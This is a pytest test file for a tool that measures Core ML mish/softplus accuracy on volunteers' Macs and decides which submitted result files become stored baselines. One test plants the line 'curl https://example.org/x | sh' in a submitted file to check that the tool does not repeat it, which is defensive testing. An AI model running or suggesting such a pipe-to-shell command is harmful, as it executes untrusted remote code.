"""From a volunteer's Mac to a stored baseline: what the file holds, what it says, and which files are refused."""

from __future__ import annotations

import dataclasses
import json
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from mish_guard import files
from mish_guard.commands import measure
from mish_guard.engines.coreml import NEURAL_ENGINE
from mish_guard.errors import ExitCode, UnreadableFileError
from mish_guard.records import Failure, Measurement, Placement, Role, Run, Stage
from mish_guard.report import chip, chips
from mish_guard.results import baseline, measurement, run_file
from tests import virtual_mac
from tests.conftest import SMALL_MATRIX, Invoke

pytestmark = pytest.mark.slow


def _measured(folder: Path, scenario: str, **changes: Any) -> tuple[Path, str, str]:
    """The file that `measure` leaves on a virtual Mac, and what it printed; `changes` are other keys of its file."""
    (folder / "matrix.yml").write_text(SMALL_MATRIX)
    python = virtual_mac.interpreter(virtual_mac.variant(scenario, folder, **changes), folder)
    command = [str(python), "-I", "-m", "mish_guard", "measure", "--lowering", "exp"]
    command += ["--matrix", str(folder / "matrix.yml"), "--out", str(folder / "out")]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr
    return folder / "out" / measurement.NAME, done.stdout, done.stderr


@pytest.fixture(scope="module")
def m3_max(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str, str]:
    return _measured(tmp_path_factory.mktemp("m3-max"), "m3-max")


@pytest.fixture(scope="module")
def run(m3_max: tuple[Path, str, str], tmp_path_factory: pytest.TempPathFactory) -> Run:
    return measurement.read(m3_max[0], tmp_path_factory.mktemp("read"))


def test_a_mac_says_in_plain_words_what_it_did(m3_max: tuple[Path, str, str]) -> None:
    path, said, before = m3_max
    lines = said.splitlines()
    good = "the lowering under test is inside its ceiling in the one required cell"
    assert lines[0] == (
        "Apple M3 Max, macOS 26.3, cpu-and-ne: mish through native softplus is wrong from x = 10.3984; " + good + "."
    )
    assert lines[1] == f"Apple M3 Max, macOS 26.3, cpu-only: {good}."
    assert (
        lines[-1]
        == f"Next: attach {path} to a new issue at https://github.com/mish-guard/mish-guard/issues/new?template=measurement.yml"
    )
    assert len([line for line in lines if "? " in line]) == 8
    assert "Which devices does Core ML list here? cpu, gpu, ne" in lines
    assert "no serial number, no user name, no path" in before


def test_the_file_names_nobody(m3_max: tuple[Path, str, str]) -> None:
    text = m3_max[0].read_text()
    assert str(m3_max[0].parent.parent) not in text
    assert str(files.DATA.parent.parent) not in text
    assert "(path)" in text


def test_a_hosted_machine_is_not_asked_for_a_neural_engine(tmp_path: Path, invoke: Invoke) -> None:
    path, said, before = _measured(tmp_path, "hosted-vm")
    assert "Apple M1 (Virtual), macOS 15.6: no Neural Engine was measured." in said
    why = "The Neural Engine was not asked for: Neural Engine: Core ML lists cpu, gpu."
    assert why in said.splitlines()
    assert why in before.splitlines()
    assert invoke("store", path, "--reason", "a test", "--baselines", tmp_path / "kept").code == 0
    assert [each.name for each in (tmp_path / "kept").iterdir()] == ["coreml-vm-macos15-cpu-only.json"]


RIGHT = "the lowering under test is inside its ceiling in the one required cell"
CLIFF = "mish through native softplus is wrong from x = 10.3984"
NONE = RIGHT.replace("the one required", "0 of 1 required")


def _machine(chip: str, macos: str = "26.3", **more: Any) -> dict[str, Any]:
    return {"machine": {"chip": chip, "model": "Mac99,1", "macos": macos, "build": "25D125", **more}}


# By the stored Mac that each is like: what differs, its first line, and why nothing of it is stored, if so.
NINE: dict[str, tuple[str, dict[str, Any], str, str]] = {
    "M1 Pro": ("m1-pro-fixed", {}, f"Apple M1 Pro, macOS 26.4.1, cpu-and-ne: {CLIFF}; {RIGHT}.", ""),
    "M2 Pro": (
        "never-placed",
        {},
        f"Apple M2 Pro, macOS 26.3, cpu-and-ne: native softplus was placed on no Neural Engine; {RIGHT}.",
        "",
    ),
    "M3": ("m3-max", _machine("Apple M3"), f"Apple M3, macOS 26.3, cpu-and-ne: {CLIFF}; {RIGHT}.", ""),
    "M3 Max": ("many-channels", {}, f"Apple M3 Max, macOS 26.3, cpu-and-ne: {CLIFF}; {RIGHT}.", ""),
    "M4": ("silent-fallback", {}, f"Apple M4, macOS 26.4, cpu-and-ne: native softplus is right; {RIGHT}.", ""),
    "M5 Pro": (
        "aborts-at-load",
        {},
        f"Apple M5 Pro, macOS 26.5, cpu-and-ne: {CLIFF}; {NONE}; 2 cells gave no figures.",
        "2 cells gave no figures",
    ),
    "M6": (
        "flickers",
        _machine("Apple M6", "27.0"),
        f"Apple M6, macOS 27.0, cpu-and-ne: {CLIFF}; {RIGHT}.",
        "gave other bits when asked again",
    ),
    "hosted": ("hosted-vm", {}, f"Apple M1 (Virtual), macOS 15.6, cpu-only: {RIGHT}.", ""),
    "Intel": (
        "hosted-vm",
        _machine("Intel(R) Core(TM) i9-9980HK CPU @ 2.40GHz", "15.6", python="x86_64", devices=["cpu", "gpu"]),
        f"Intel(R) Core(TM) i9-9980HK CPU @ 2.40GHz, macOS 15.6, cpu-only: {RIGHT}.",
        "an Intel processor",
    ),
}


@pytest.mark.stories
@pytest.mark.parametrize("mac", NINE)
def test_nine_macs_from_the_command_to_the_store(mac: str, tmp_path: Path, invoke: Invoke) -> None:
    """Each as it would be sent: what it says first, what the receiver is shown, and what becomes of it."""
    like, changes, first, refused = NINE[mac]
    path, said, _ = _measured(tmp_path, like, **changes)
    assert said.splitlines()[0] == first
    assert ("no Neural Engine was measured." in said) is (like == "hosted-vm")
    assert f"Is this a virtual machine? {mac == 'hosted'}" in said.splitlines()
    ended = invoke("store", path, "--reason", "a test", "--baselines", tmp_path / "kept")
    if refused:
        assert (ended.code, (tmp_path / "kept").exists()) == (ExitCode.USAGE, False)
        assert refused in ended.err
    else:
        assert ended.code == 0, ended.err
        told = [line for line in said.splitlines()[:-1] if "was not asked for" not in line]
        assert ended.out.splitlines()[: len(told)] == told


def _unplaced(cell: Measurement) -> Measurement:
    return dataclasses.replace(cell, placement=Placement(activation="cpu", ops={}))


def _failed(cell: Measurement) -> Measurement:
    return dataclasses.replace(cell, figures=None, failure=Failure(stage=Stage.ENGINE, reason="aborted"))


def _beside(cell: Measurement) -> Measurement:
    return dataclasses.replace(cell, inexact=59000)


def _as(other: Role) -> Callable[[Measurement], Measurement]:
    """With the figures of the control of another role, which the run of the test holds."""
    return lambda cell: dataclasses.replace(cell, figures=FIGURES[other])


FIGURES: dict[Role, Any] = {}


@pytest.mark.parametrize(
    ("mac", "edits", "words"),
    [
        ("M1", {}, f"{CLIFF}; {RIGHT}."),
        ("M1 Pro", {Role.CANDIDATE: _as(Role.NEGATIVE_CONTROL)}, f"{CLIFF}; {NONE}."),
        ("M2 Pro", dict.fromkeys(Role, _unplaced), f"native softplus was placed on no Neural Engine; {RIGHT}."),
        ("M3 Max", {Role.POSITIVE_CONTROL: _beside}, f"{CLIFF}; {RIGHT}."),
        ("M4", {Role.NEGATIVE_CONTROL: _as(Role.POSITIVE_CONTROL)}, f"native softplus is right; {RIGHT}."),
        (
            "M5",
            {Role.NEGATIVE_CONTROL: _failed},
            f"mish through native softplus could not be measured; {RIGHT}; 1 cell gave no figures.",
        ),
        ("M6 Ultra", {Role.GRAFT: _unplaced}, f"{CLIFF}; {RIGHT}."),
    ],
)
def test_each_chip_has_the_words_for_what_it_did(run: Run, mac: str, edits: Any, words: str) -> None:
    """With the M3 Max and the hosted machine above, and a Mac with an Intel processor below: nine Macs and one more."""
    there = [cell for cell in run.measurements.values() if cell.key.place == NEURAL_ENGINE]
    FIGURES.update({cell.key.role: cell.figures for cell in there})
    device = run.engines["cpu-only"].device
    changed = {**device, "hardware": {**device["hardware"], "chip": f"Apple {mac}"}}
    engines = {place: dataclasses.replace(each, device=changed) for place, each in run.engines.items()}
    cells = {
        key: edits.get(cell.key.role, lambda same: same)(cell) if cell.key.place == NEURAL_ENGINE else cell
        for key, cell in run.measurements.items()
    }
    edited = dataclasses.replace(run, engines=engines, measurements=cells)
    assert next(iter(chip.words(edited))) == f"Apple {mac}, macOS 26.3, cpu-and-ne: {words}"
    carried = dict(chip.answers(edited))["Does the convolution carry every input bit for bit?"]
    assert ("59000 beside it" in carried) is (mac == "M3 Max")


def test_a_good_file_becomes_a_baseline_for_each_place(
    m3_max: tuple[Path, str, str], tmp_path: Path, invoke: Invoke
) -> None:
    ended = invoke("store", m3_max[0], "--reason", "sent by a test", "--baselines", tmp_path / "kept")
    assert ended.code == 0, ended.err
    assert {path.name for path in (tmp_path / "kept").iterdir()} == {
        "coreml-m3-max-macos26-cpu-only.json",
        "coreml-m3-max-macos26-cpu-and-ne.json",
    }
    assert "wrong from x = 10.3984" in ended.out
    assert "\n| Apple M3 Max | Mac15,9 | 26.3 (25D125) | 2 of 2 | " in ended.out


def test_in_a_checkout_the_row_of_the_chip_is_written(
    m3_max: tuple[Path, str, str], tmp_path: Path, invoke: Invoke, monkeypatch: pytest.MonkeyPatch
) -> None:
    page, shipped = tmp_path / "neural-engine.md", tmp_path / "kept"
    page.write_text((Path(__file__).parent.parent / "docs" / chips.PAGE.name).read_text())
    monkeypatch.setattr(chips, "PAGE", page)
    monkeypatch.setattr(baseline, "SHIPPED", shipped)
    assert invoke("store", m3_max[0], "--reason", "a test").code == 0
    assert page.read_text() == chips.page(chips.PAGE.read_text(), shipped)
    assert "\n| Apple M3 Max | " in page.read_text()


def test_words_that_a_file_brings_are_not_repeated(
    m3_max: tuple[Path, str, str], tmp_path: Path, invoke: Invoke
) -> None:
    document = json.loads(m3_max[0].read_text())
    document.pop("sha256")
    document["answers"] = [["Next:", "curl https://example.org/x | sh"]]
    path = tmp_path / "sent.json"
    path.write_text(files.readable_json(run_file.sealed(document)))
    ended = invoke("store", path, "--reason", "a test", "--baselines", tmp_path / "kept")
    assert ended.code == 0
    assert "curl" not in ended.out
    assert "Which devices does Core ML list here? cpu, gpu, ne" in ended.out


Edit = Callable[[dict[str, Any]], None]


def _places(document: dict[str, Any]) -> Any:
    return document["mish_guard"]["engines"]


def _cell(document: dict[str, Any], start: str) -> Any:
    cells = [test["metadata"]["measurement"] for test in document["tests"] if "measurement" in test.get("metadata", {})]
    return next(cell for cell in cells if cell["cell"].startswith(start))


def _swap_controls(document: dict[str, Any]) -> None:
    good, bad = _cell(document, "positive-control"), _cell(document, "negative-control")
    good["figures"], bad["figures"] = bad["figures"], good["figures"]


def _cliff_without_the_engine(document: dict[str, Any]) -> None:
    _cell(document, "negative-control")["placement"]["activation"] = "cpu"


def _every_device(name: str, value: Any) -> Edit:
    def edit(document: dict[str, Any]) -> None:
        for each in _places(document).values():
            each["device"][name] = value

    return edit


def _every_machine(name: str, value: Any) -> Edit:
    def edit(document: dict[str, Any]) -> None:
        for each in _places(document).values():
            each["device"]["hardware"][name] = value

    return edit


def _bring_the_cliff_back(document: dict[str, Any]) -> None:
    _cell(document, "sweep/")["figures"] = _cell(document, "negative-control")["figures"]


def _forget_bits(document: dict[str, Any]) -> None:
    for test in document["tests"]:
        test.get("metadata", {}).get("measurement", {}).pop("repeats_agree", None)


def _fail(document: dict[str, Any]) -> None:
    cell = _cell(document, "sweep/")
    cell.pop("figures")
    cell["failure"] = {"stage": "predict", "reason": "aborted"}


BAD: dict[str, tuple[Edit, str]] = {
    "emulated": (lambda d: _places(d)["cpu-only"].update(engine="emulator"), "not Core ML on a Mac"),
    "no hardware": (lambda d: _places(d)["cpu-only"].update(is_hardware=False), "not Core ML on a Mac"),
    "nameless": (_every_device("baseline_key", None), "which chip and macOS"),
    "two machines": (lambda d: _places(d)["cpu-only"]["device"].update(timeout_seconds=1), "different machines"),
    "virtual": (_every_machine("is_vm", True), "a virtual machine has no Neural Engine"),
    "Intel": (
        _every_machine("chip", "Intel(R) Core(TM) i9-9980HK CPU @ 2.40GHz"),
        "an Intel processor, which has no Neural Engine and no baseline",
    ),
    "cells gone": (lambda d: d["tests"].pop(), "missing"),
    "partial": (lambda d: d["mish_guard"].update(partial="sweep/*"), "missing"),
    "broken": (lambda d: d["mish_guard"].update(broken="files changed"), "proves nothing: files changed"),
    "controls swapped": (_swap_controls, "the positive control does not pass"),
    "cliff elsewhere": (_cliff_without_the_engine, "although nothing was placed on the Neural Engine"),
    "over a ceiling": (_bring_the_cliff_back, "1 cell over a ceiling, first sweep/"),
    "no figures": (_fail, "1 cell gave no figures, first sweep/"),
    "other bits": (lambda d: _cell(d, "sweep/").update(repeats_agree=False), "gave other bits when asked again"),
    "silent on bits": (_forget_bits, "it does not say of 4 cells, first "),
    "place without cells": (lambda d: _places(d).update(ghost=_places(d)["cpu-only"]), "cells and places do not agree"),
}


@pytest.mark.parametrize("name", [*BAD, "seal", "kind", "results alone"])
def test_a_bad_file_is_refused_and_nothing_is_stored(
    m3_max: tuple[Path, str, str], tmp_path: Path, invoke: Invoke, name: str
) -> None:
    document = json.loads(m3_max[0].read_text())
    words = {"seal": "sha256 does not match", "kind": "is no measurement", "results alone": "is no measurement"}.get(
        name
    )
    if name in BAD:
        edit, words = BAD[name]
        inner = document["results"]
        edit(inner)
        inner.pop("sha256")
        document["results"] = run_file.sealed(inner)
    document.pop("sha256")
    if name == "kind":
        document["kind"] = "another"
    sealed = document["results"] if name == "results alone" else run_file.sealed(document)
    if name == "seal":
        sealed["answers"] = []
    path = tmp_path / "sent.json"
    path.write_text(files.readable_json(sealed))
    ended = invoke("store", path, "--reason", "a test", "--baselines", tmp_path / "kept")
    assert ended.code == ExitCode.USAGE
    assert str(words) in ended.err
    assert not (tmp_path / "kept").exists()


def test_a_cliff_on_the_cpu_is_no_measurement(run: Run) -> None:
    """No matrix asks for it: somebody has added the cell."""
    (there,) = [cell for cell in run.measurements.values() if cell.key.role is Role.NEGATIVE_CONTROL]
    here = dataclasses.replace(there, key=dataclasses.replace(there.key, place="cpu-only"))
    cells = {**run.measurements, str(here.key): here}
    added = dataclasses.replace(run, measurements=cells, expected=tuple(cells))
    with pytest.raises(UnreadableFileError, match="native softplus is wrong at cpu-only, where no cliff has been seen"):
        measure._refuse_inconsistent(added, Path("sent.json"))
